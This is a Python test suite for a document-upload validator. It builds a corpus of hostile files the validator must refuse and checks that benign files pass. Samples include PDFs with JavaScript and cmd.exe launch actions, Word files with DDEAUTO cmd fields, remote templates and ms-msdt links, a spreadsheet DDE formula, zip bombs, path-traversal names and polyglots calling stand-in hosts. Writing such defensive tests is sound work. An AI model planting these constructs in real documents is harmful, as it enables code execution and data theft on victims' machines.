"""What may be uploaded: a corpus of bad files, each refused with its reason, and good ones of every type."""

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest
import weasyprint
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from members import labels, uploads
from members.uploads import checking
from regulation.verdicts import Refused
from tests.documents import (
    OFFICE,
    empty_page,
    pdf_of,
    relations,
    slide_parts,
    text_document,
    text_parts,
    tiny_pdf,
    tiny_picture,
    tiny_table,
    types,
    zipped,
)

# No database here; the answer is that of the file alone.
pytestmark = pytest.mark.once

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MAIN_TEXT = f"{OFFICE}.wordprocessingml.document.main+xml"
XLSX = f"{OFFICE}.spreadsheetml.sheet.main+xml"
DOTS = 7_100


def action(kind: str, **more: str) -> DictionaryObject:
    made = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in more.items():
        made[NameObject(f"/{key}")] = TextStringObject(value)
    return made


def with_root(key: str, value: object) -> bytes:
    writer = empty_page()
    writer.root_object[NameObject(key)] = value
    return pdf_of(writer)


def with_link(what: DictionaryObject) -> bytes:
    writer = empty_page()
    link = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): what})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([link])
    return pdf_of(writer)


def with_script() -> bytes:
    return with_root("/OpenAction", action("/JavaScript", JS="app.alert(1)"))


def with_packed_script() -> bytes:
    """Return a PDF whose script lies in a compressed stream of objects, unseen in its bytes."""
    root = b"<< /Type /Catalog /Pages 3 0 R /OpenAction 2 0 R >> "
    body = b"1 0 2 %d " % len(root)
    stream = zlib.compress(body + root + b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
    made = io.BytesIO(b"%PDF-1.7\n")
    made.seek(0, io.SEEK_END)
    places = {}
    pages = b"<< /Type /Pages /Count 1 /Kids [4 0 R] >>"
    page = b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 9 9] >>"
    for number, content in ((3, pages), (4, page)):
        places[number] = made.tell()
        made.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    places[5] = made.tell()
    made.write(
        b"5 0 obj\n<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n" % (len(body), len(stream), stream)
    )
    start = made.tell()
    rows = b"".join(
        [
            struct.pack(">BIB", 0, 0, 255),
            struct.pack(">BIB", 2, 5, 0),
            struct.pack(">BIB", 2, 5, 1),
            *(struct.pack(">BIB", 1, places[number], 0) for number in (3, 4, 5)),
            struct.pack(">BIB", 1, start, 0),
        ]
    )
    made.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n" % (len(rows), rows)
    )
    made.write(b"startxref\n%d\n%%%%EOF\n" % start)
    return made.getvalue()


def leading(following: object = None) -> DictionaryObject:
    """Return an action that leads to a place in the document, and the one that follows it."""
    made = DictionaryObject(
        {NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): TextStringObject("place")}
    )
    if following is not None:
        made[NameObject("/Next")] = following
    return made


def when(trigger: str, what: DictionaryObject) -> DictionaryObject:
    return DictionaryObject({NameObject(trigger): what})


def with_page(key: str, value: object) -> bytes:
    writer = empty_page()
    writer.pages[0][NameObject(key)] = value
    return pdf_of(writer)


def with_streams(content: bytes, number: int = 1, **entries: object) -> bytes:
    """Return a PDF with streams of these bytes as they are, and of these entries."""
    writer = empty_page()
    for _time in range(number):
        stream = StreamObject()
        stream.set_data(content)
        stream.update({NameObject(f"/{key}"): value for key, value in entries.items()})
        writer._add_object(stream)
    return pdf_of(writer)


def many_numbers() -> bytes:
    """Return XML that is too large without being almost nothing but repetition."""
    return b"<s>" + b" ".join(b"%d" % number for number in range(4_500_000)) + b"</s>"


@functools.cache
def deflated(size: int) -> bytes:
    packing = zlib.compressobj(9)
    block = b"\0" * 1_000_000
    return b"".join(packing.compress(block) for _time in range(size // len(block))) + packing.flush()


def named_file(**more: object) -> DictionaryObject:
    row = {"Type": NameObject("/Filespec"), "F": TextStringObject("\\\\x.example\\a"), **more}
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in row.items()})


def with_zip_comment(content: bytes, comment: bytes) -> bytes:
    made = io.BytesIO(content)
    with zipfile.ZipFile(made, "a") as archive:
        archive.comment = comment
    return made.getvalue()


def commented(text: bytes) -> bytes:
    """Return a JPEG with a comment."""
    picture = tiny_picture("JPEG")
    return picture[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + picture[2:]


def with_attachment() -> bytes:
    writer = empty_page()
    writer.add_attachment("inner.exe", b"MZ")
    return pdf_of(writer)


def with_password(password: str) -> bytes:
    writer = empty_page()
    writer.encrypt(password, "owner", algorithm="RC4-128")
    return pdf_of(writer)


def without_pages() -> bytes:
    return pdf_of(PdfWriter())


def field(text: str) -> str:
    return f"<w:p><w:r><w:instrText>{text}</w:instrText></w:r></w:p>"


def outside(kind: str, target: str, mode: str = "External") -> bytes:
    return text_document({"word/_rels/document.xml.rels": relations((kind, target, mode))})


def book_with(part: str, content: bytes | str) -> bytes:
    return zipped({"[Content_Types].xml": types("xl/workbook.xml", XLSX), part: content})


def table_with(formula: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(tiny_table())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    return zipped(parts | {"xl/worksheets/sheet1.xml": sheet.replace(b"SUM(A1:A1)", formula.encode())})


def lying_about_its_size() -> bytes:
    """Return a DOCX one part of which says that it is small and unpacks to much more."""
    content = bytearray(text_document({"word/media/image1.png": b"\0" * 5_000_000}))
    for signature, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = content.rindex(signature, 0, content.rindex(b"word/media/image1.png") if place == 24 else None)
        if place == 22:
            at = content.index(b"word/media/image1.png") - 30
        content[at + place : at + place + 4] = struct.pack("<I", 10)
    return bytes(content)


def locked_archive() -> bytes:
    content = bytearray(text_document())
    at = 0
    while (at := content.find(b"PK\x01\x02", at)) >= 0:
        content[at + 8] |= 1
        at += 4
    return bytes(content)


def twice_the_same_part() -> bytes:
    made = io.BytesIO(text_document())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(made, "a") as archive:
        archive.writestr("word/document.xml", "<other/>")
    return made.getvalue()


def large_picture() -> bytes:
    """Return a PNG of a few kilobytes that says that it has more dots than any scan."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        whole = kind + content
        return struct.pack(">I", len(content)) + whole + struct.pack(">I", zlib.crc32(whole))

    header = struct.pack(">IIBBBBB", DOTS, DOTS, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * (DOTS // 8 + 2) * DOTS, 9)
    signature = b"\x89PNG\r\n\x1a\n"
    return signature + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


BAD: list[tuple[str, str, Callable[[], bytes], str]] = [
    # Of another kind than their name says, or of no kind that is kept.
    ("empty", "a.pdf", lambda: b"", "file_empty"),
    ("html", "page.html", lambda: b"<script>alert(1)</script>", "file_type"),
    ("svg", "drawing.svg", lambda: b"<svg onload='x'/>", "file_type"),
    ("zip", "all.zip", lambda: zipped({"a.txt": "a"}), "file_type"),
    ("program", "setup.exe", lambda: b"MZ\x90\x00", "file_type"),
    ("program-named-pdf", "report.pdf", lambda: b"MZ\x90\x00 a program", "file_type"),
    ("html-named-pdf", "report.pdf", lambda: b"<html></html>", "file_type"),
    ("no-extension", "report", tiny_pdf, "file_type"),
    ("double-extension", "report.pdf.exe", tiny_pdf, "file_type"),
    ("turned-extension", "report\u202efdp.exe", tiny_pdf, "file_type"),
    ("jpeg-named-png", "photo.png", lambda: tiny_picture("JPEG"), "file_type"),
    ("png-named-jpeg", "photo.jpg", lambda: tiny_picture("PNG"), "file_type"),
    ("gif-named-png", "photo.png", lambda: b"GIF89a\x01\x00\x01\x00", "file_type"),
    ("archive-named-docx", "a.docx", lambda: zipped({"a.txt": "a"}), "file_type"),
    ("table-named-docx", "a.docx", tiny_table, "file_type"),
    ("text-named-xlsx", "a.xlsx", text_document, "file_type"),
    ("old-word", "a.docx", lambda: OLE + b"\0" * 600, "file_type"),
    ("template", "a.docx", lambda: text_document({"[Content_Types].xml": types(
        "word/document.xml", f"{OFFICE}.wordprocessingml.template.main+xml")}), "file_type"),
    # Damaged.
    ("pdf-cut", "a.pdf", lambda: tiny_pdf()[:-80], "file_broken"),
    ("pdf-of-noise", "a.pdf", lambda: b"%PDF-1.7\n" + b"\x81noise" * 90 + b"\n%%EOF", "file_broken"),
    ("pdf-without-pages", "a.pdf", without_pages, "file_broken"),
    ("zip-cut", "a.docx", lambda: text_document()[:-30], "file_broken"),
    ("zip-of-noise", "table.xlsx", lambda: b"PK\x03\x04 not a table", "file_broken"),
    ("zip-end-of-noise", "a.docx",
     lambda: b"PK\x03\x04" + b"\0" * 40 + b"PK\x05\x06" + b"\xff" * 18, "file_broken"),
    ("xml-cut", "a.docx", lambda: text_document({"word/styles.xml": "<styles>"}), "file_broken"),
    ("xml-entities", "a.docx", lambda: text_document(
        {"word/styles.xml": '<!DOCTYPE s [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;">]><s>&b;</s>'}),
     "file_broken"),
    ("part-twice", "a.docx", twice_the_same_part, "file_broken"),
    ("part-outside", "a.docx", lambda: text_document({"../../etc/cron.d/x": "x"}), "file_broken"),
    ("lying-size", "a.docx", lying_about_its_size, "file_broken"),
    ("jpeg-cut", "a.jpg", lambda: tiny_picture("JPEG")[:-150], "file_broken"),
    ("png-cut", "a.png", lambda: tiny_picture("PNG")[:-25], "file_broken"),
    # Closed with a password.
    ("pdf-password", "a.pdf", lambda: with_password("secret"), "file_encrypted"),
    ("pdf-owner-password", "a.pdf", lambda: with_password(""), "file_encrypted"),
    ("office-password", "a.docx",
     lambda: OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), "file_encrypted"),
    ("zip-password", "a.docx", locked_archive, "file_encrypted"),
    # Programs.
    ("macros", "a.docx", lambda: text_document({"word/vbaProject.bin": OLE}), "file_macros"),
    ("macros-in-other-letters", "a.docx",
     lambda: text_document({"word/VBAPROJECT.BIN": b"x"}), "file_macros"),
    ("docm-renamed", "a.docx", lambda: text_document({"[Content_Types].xml": types(
        "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")}), "file_macros"),
    ("macros-under-another-name", "a.docx", lambda: outside("vbaProject", "data.bin", ""), "file_macros"),
    ("macro-sheet", "a.xlsx", lambda: book_with("xl/macrosheets/sheet1.xml", "<x/>"), "file_macros"),
    ("pdf-script", "a.pdf", with_script, "file_active"),
    ("pdf-script-in-objects", "a.pdf", with_packed_script, "file_active"),
    ("pdf-script-in-link", "a.pdf", lambda: with_link(action("/JavaScript", JS="x")), "file_active"),
    ("pdf-launch", "a.pdf", lambda: with_link(action("/Launch", F="cmd.exe")), "file_active"),
    ("pdf-submit", "a.pdf", lambda: with_link(action("/SubmitForm", F="http://x.example")), "file_active"),
    ("pdf-other-file", "a.pdf", lambda: with_link(action("/GoToR", F="\\\\x.example\\a")), "file_active"),
    ("pdf-opens-address", "a.pdf",
     lambda: with_root("/OpenAction", action("/URI", URI="http://x.example")), "file_active"),
    ("pdf-form", "a.pdf", lambda: with_root(
        "/AcroForm", DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})), "file_active"),
    ("pdf-page-opens-address", "a.pdf", lambda: with_page(
        "/AA", when("/O", action("/URI", URI="http://x.example"))), "file_active"),
    ("pdf-closing-opens-address", "a.pdf", lambda: with_root(
        "/AA", when("/WC", action("/URI", URI="http://x.example"))), "file_active"),
    ("pdf-leads-and-then-opens", "a.pdf", lambda: with_root(
        "/OpenAction", leading(action("/URI", URI="http://x.example"))), "file_active"),
    ("pdf-leads-and-then-opens-one-of-two", "a.pdf", lambda: with_root(
        "/OpenAction", leading(ArrayObject([leading(), action("/URI", URI="http://x.example")]))),
     "file_active"),
    ("pdf-prints-itself", "a.pdf", lambda: with_root("/OpenAction", DictionaryObject(
        {NameObject("/S"): NameObject("/Named"), NameObject("/N"): NameObject("/Print")})), "file_active"),
    # Packed inside.
    ("pdf-attachment", "a.pdf", with_attachment, "file_packed"),
    ("ole-object", "a.docx", lambda: text_document({"word/embeddings/oleObject1.bin": OLE}), "file_packed"),
    ("ole-relation", "a.docx", lambda: outside("oleObject", "a.bin", ""), "file_packed"),
    ("activex", "a.docx", lambda: text_document({"word/activeX/activeX1.xml": "<x/>"}), "file_packed"),
    ("nested-archive", "a.docx",
     lambda: text_document({"word/media/a.zip": zipped({"a": "a"})}), "file_packed"),
    ("nested-in-table", "a.docx", lambda: text_document(
        {"word/embeddings/a.xlsx": book_with("xl/embeddings/b.xlsx", tiny_table())}), "file_packed"),
    ("macros-in-the-table-of-a-chart", "a.docx", lambda: text_document(
        {"word/embeddings/a.xlsx": book_with("xl/vbaProject.bin", b"x")}), "file_macros"),
    ("program-inside", "a.docx", lambda: text_document({"word/media/a.png": b"MZ\x90"}), "file_packed"),
    ("html-chunk", "a.docx", lambda: outside("aFChunk", "x.html", ""), "file_packed"),
    ("script-part", "a.docx", lambda: text_document({"word/x.js": "alert(1)"}), "file_packed"),
    ("application-part", "a.docx", lambda: text_document({"word/x.hta": "<x/>"}), "file_packed"),
    # From outside.
    ("pdf-content-elsewhere", "a.pdf",
     lambda: with_streams(b"", F=TextStringObject("\\\\x.example\\a")), "file_external"),
    ("pdf-file-by-address", "a.pdf", lambda: with_page(
        "/X", named_file(FS=NameObject("/URL"))), "file_external"),
    ("pdf-file-elsewhere", "a.pdf", lambda: with_page("/X", named_file()), "file_external"),
    ("pdf-page-of-another-file", "a.pdf", lambda: with_streams(
        b"", Subtype=NameObject("/Form"), Ref=DictionaryObject()), "file_external"),
    ("file-link", "a.docx", lambda: outside("hyperlink", "file:///\\\\x.example\\a"), "file_external"),
    ("script-link-in-pieces", "a.docx", lambda: outside("hyperlink", "java&#9;script:alert(1)"),
     "file_external"),
    ("script-link-in-a-field", "a.docx",
     lambda: text_document(body=field('HYPERLINK "javascript:alert(1)"')), "file_external"),
    ("remote-picture-in-small-letters", "a.docx",
     lambda: outside("image", "http://x.example/a.png", "external"), "file_external"),
    ("dde-in-numbers", "a.docx",
     lambda: text_document(body=field("QUOTE 68 68 69 65 85 84 79 32 99 109 100")), "file_external"),
    ("remote-template", "a.docx",
     lambda: outside("attachedTemplate", "http://x.example/t.dotm"), "file_external"),
    ("remote-picture", "a.docx", lambda: outside("image", "\\\\x.example\\a.png"), "file_external"),
    ("remote-frame", "a.docx", lambda: outside("frame", "http://x.example/"), "file_external"),
    ("script-link", "a.docx", lambda: outside("hyperlink", "javascript:alert(1)"), "file_external"),
    ("msdt-link", "a.docx", lambda: outside("hyperlink", "ms-msdt:/id x"), "file_external"),
    ("outer-book", "a.xlsx", lambda: book_with(
        "xl/externalLinks/_rels/a.xml.rels", relations(("externalLinkPath", "file:///x", "External"))),
     "file_external"),
    ("dde-field", "a.docx", lambda: text_document(body=field("DDEAUTO c:\\\\cmd.exe")), "file_external"),
    ("dde-in-pieces", "a.docx",
     lambda: text_document(body=field("DD") + field("EAUTO cmd")), "file_external"),
    ("fetched-text", "a.docx",
     lambda: text_document(body=field('INCLUDETEXT "http://x.example"')), "file_external"),
    ("dde-formula", "a.xlsx", lambda: table_with("cmd|'/c calc'!A1"), "file_external"),
    ("fetching-formula", "a.xlsx",
     lambda: table_with("WEBSERVICE(&quot;http://x.example&quot;)"), "file_external"),
    # Bombs.
    ("many-parts", "a.docx",
     lambda: text_document({f"word/a{n}.txt": "" for n in range(2_000)}), "file_bomb"),
    ("ratio", "a.docx", lambda: text_document({"word/media/a.png": b"\0" * 21_000_000}), "file_bomb"),
    ("unpacks-to-too-much", "a.docx", lambda: text_document(
        {f"word/media/{n}.png": b"\0" * 64_000_000 for n in range(4)}), "file_bomb"),
    ("long-xml-comment", "a.docx", lambda: text_document(
        {"word/styles.xml": b"<s><!--" + b"a" * 25_000_000 + b"--></s>"}), "file_bomb"),
    ("large-xml", "a.docx", lambda: text_document({"word/styles.xml": many_numbers()}), "file_bomb"),
    ("pdf-picture-of-too-many-dots", "a.pdf", lambda: with_streams(
        b"", Subtype=NameObject("/Image"), Width=NumberObject(100_000), Height=NumberObject(100_000)),
     "file_bomb"),
    ("pdf-stream-unpacks-to-too-much", "a.pdf", lambda: with_streams(
        deflated(265_000_000), Filter=NameObject("/FlateDecode")), "file_bomb"),
    ("pdf-streams-unpack-to-too-much", "a.pdf", lambda: with_streams(
        deflated(250_000_000), 5, Filter=ArrayObject([NameObject("/FlateDecode")])), "file_bomb"),
    ("pdf-stream-packed-twice", "a.pdf", lambda: with_streams(
        zlib.compress(zlib.compress(b"a")), Filter=ArrayObject([NameObject("/FlateDecode")] * 2)),
     "file_bomb"),
    ("pdf-stream-in-letters-unpacks-to-too-much", "a.pdf", lambda: with_streams(
        deflated(265_000_000).hex().encode() + b">",
        Filter=ArrayObject([NameObject("/ASCIIHexDecode"), NameObject("/FlateDecode")])), "file_bomb"),
    ("picture-of-too-many-dots", "a.png", large_picture, "file_picture_large"),
    # Two things at once.
    ("pdf-and-zip", "a.pdf", lambda: tiny_pdf() + zipped({"a": "a"}), "file_two_kinds"),
    ("pdf-and-html", "a.pdf", lambda: tiny_pdf() + b"<script>alert(1)</script>" * 90, "file_two_kinds"),
    ("jpeg-and-html", "a.jpg", lambda: tiny_picture("JPEG") + b"<HTML><body>", "file_two_kinds"),
    ("jpeg-and-zip", "a.jpg", lambda: tiny_picture("JPEG") + zipped({"a": "a"}), "file_two_kinds"),
    ("png-and-php", "a.png", lambda: tiny_picture("PNG") + b"<?php echo 1;", "file_two_kinds"),
    ("jpeg-and-rar", "a.jpg", lambda: tiny_picture("JPEG") + b"Rar!\x1a\x07\x00", "file_two_kinds"),
    ("jpeg-and-program", "a.jpg", lambda: tiny_picture("JPEG") + b"MZ\x90\x00", "file_two_kinds"),
    ("png-and-entities", "a.png", lambda: tiny_picture("PNG") + b'<!ENTITY a "b">', "file_two_kinds"),
    ("jpeg-comment", "a.jpg", lambda: commented(b"<img src=x onerror=alert(1)>"), "file_two_kinds"),
    ("docx-with-a-page-behind", "a.docx",
     lambda: with_zip_comment(text_document(), b"<html><script>alert(1)</script>"), "file_two_kinds"),
    ("docx-behind-an-archive", "a.docx", lambda: zipped({"a": "a"}) + text_document(), "file_two_kinds"),
    # A virus.
    ("virus", "a.pdf", lambda: checking.EICAR, "file_infected"),
    ("virus-in-a-document", "a.pdf", lambda: tiny_pdf() + checking.EICAR, "file_infected"),
]  # fmt: skip


def refusal_of(name: str, content: bytes, *, pdf_only: bool = False) -> Refused:
    with pytest.raises(Refused) as refusal:
        uploads.check(named(name, content), pdf_only=pdf_only)
    return refusal.value


def named(name: str, content: bytes) -> SimpleUploadedFile:
    """Return an upload with that name, past the setter that cleans it, as a hostile client would send it."""
    upload = SimpleUploadedFile("x", content)
    vars(upload)["_name"] = name
    return upload


@pytest.mark.parametrize(("name", "make", "reason"), [pytest.param(*row[1:], id=row[0]) for row in BAD])
def test_a_bad_file_is_refused_for_its_reason(name: str, make: Callable[[], bytes], reason: str) -> None:
    assert refusal_of(name, make()).verdict.reason == reason


def test_a_file_over_the_limit_is_refused_unread(settings: pytest.FixtureRequest) -> None:
    settings.MATERIAL_MAX_BYTES = 100
    refusal = refusal_of("a.pdf", tiny_pdf())
    assert refusal.verdict.reason == "file_too_big"


@pytest.mark.parametrize("reason", sorted({row[3] for row in BAD}))
def test_every_reason_has_a_sentence_in_both_languages(reason: str) -> None:
    said = set()
    for language in ("en", "kk", "ru"):
        with translation.override(language):
            said.add(str(labels.OF_FILES[reason]))
    assert len(said) == 3


def with_chart() -> bytes:
    return zipped(slide_parts() | {"ppt/embeddings/Microsoft_Excel_Sheet.xlsx": tiny_table()})


def with_links() -> bytes:
    relation = ("hyperlink", "https://adilet.zan.kz/kaz/docs/P1500000000", "External")
    return text_document({"word/_rels/document.xml.rels": relations(relation)})


def printed() -> bytes:
    """Return a PDF as the portal makes them."""
    text = "<h1 id=a>Анықтама</h1><p><a href=#a>1</a> <a href=https://adilet.zan.kz/>заң</a>" * 50
    made: bytes = weasyprint.HTML(string=text).write_pdf(pdf_variant="pdf/ua-1")
    return made


GOOD: list[tuple[str, str, Callable[[], bytes]]] = [
    ("pdf", "a.pdf", tiny_pdf),
    ("pdf-with-line-ends", "a.pdf", lambda: tiny_pdf() + b"\r\n\r\n"),
    ("pdf-with-address", "a.pdf", lambda: with_link(action("/URI", URI="https://adilet.zan.kz/"))),
    ("pdf-opening-at-a-page", "a.pdf",
     lambda: with_root("/OpenAction", ArrayObject([NumberObject(0), NameObject("/Fit")]))),
    ("pdf-leading-twice", "a.pdf", lambda: with_root("/OpenAction", leading(leading()))),
    ("pdf-page-leading", "a.pdf", lambda: with_page("/AA", when("/O", leading()))),
    ("pdf-of-a-page", "a.pdf", printed),
    ("pdf-with-packed-streams", "a.pdf", lambda: with_streams(
        deflated(60_000_000), 2, Filter=NameObject("/FlateDecode"))),
    ("docx", "a.docx", text_document),
    ("docx-with-links", "a.docx", with_links),
    ("docx-with-page-numbers", "a.docx", lambda: text_document(body=field(" PAGE "))),
    ("xlsx", "a.xlsx", tiny_table),
    ("pptx", "a.pptx", lambda: zipped(slide_parts())),
    ("pptx-with-chart", "a.pptx", with_chart),
    ("jpg", "a.jpg", lambda: tiny_picture("JPEG")),
    ("jpeg", "a.JPEG", lambda: tiny_picture("JPEG")),
    ("png", "a.png", lambda: tiny_picture("PNG")),
    ("docx-stored", "a.docx", lambda: zipped(text_parts(), zipfile.ZIP_STORED)),
]  # fmt: skip


@pytest.mark.parametrize(("name", "make"), [pytest.param(*row[1:], id=row[0]) for row in GOOD])
def test_a_good_file_passes(name: str, make: Callable[[], bytes]) -> None:
    content = make()
    checked = uploads.check(named(name, content))
    assert (checked.file_name, checked.size) == (name, len(content))


NAMES = [
    pytest.param("Анықтама қосымшасы №1.pdf", "Анықтама қосымшасы №1.pdf", id="kazakh"),
    pytest.param("..\\..\\etc/pass\nwd.pdf", "passwd.pdf", id="path"),
    pytest.param("a\0b.pdf", "ab.pdf", id="null"),
    pytest.param("report\u202efdp.pdf", "reportfdp.pdf", id="turned"),
    pytest.param("report.exe.pdf", "report_exe.pdf", id="program-inside"),
    pytest.param("page.html .pdf", "page_html .pdf", id="page-inside"),
    pytest.param("CON.pdf", "_CON.pdf", id="device"),
    pytest.param("lpt1.pdf", "_lpt1.pdf", id="printer"),
    pytest.param(".pdf", "_.pdf", id="no-stem"),
    pytest.param('a<b>:"c|?*.pdf', "a_b___c___.pdf", id="signs"),
    pytest.param("  a   b .pdf. ", "a b .pdf", id="spaces"),
    pytest.param("ұ" * 500 + ".pdf", "ұ" * 118 + ".pdf", id="long"),
    pytest.param("a" * 500 + ".pdf", "a" * 146 + ".pdf", id="long-latin"),
    pytest.param("con.txt.pdf", "_con.txt.pdf", id="device-and-more"),
    pytest.param("CON .pdf", "_CON .pdf", id="device-and-space"),
    pytest.param("COM¹.pdf", "_COM¹.pdf", id="device-in-other-digits"),
    pytest.param("30.11.2026 хаттама.pdf", "30.11.2026 хаттама.pdf", id="dots"),
]


@pytest.mark.parametrize(("sent", "kept"), NAMES)
def test_a_hostile_name_is_neutralised(sent: str, kept: str) -> None:
    checked = uploads.check(named(sent, tiny_pdf()))
    assert checked.file_name == kept
    assert len(checked.stored_name) == len("materials/.pdf") + 32


@pytest.mark.parametrize(
    ("name", "make", "reason"),
    [
        pytest.param("a.docx", text_document, "file_not_pdf", id="document"),
        pytest.param("a.pdf", text_document, "file_not_pdf", id="document-named-pdf"),
        pytest.param("a.pdf", with_script, "file_active", id="script"),
    ],
)
def test_an_act_is_only_a_passive_pdf(name: str, make: Callable[[], bytes], reason: str) -> None:
    assert refusal_of(name, make(), pdf_only=True).verdict.reason == reason
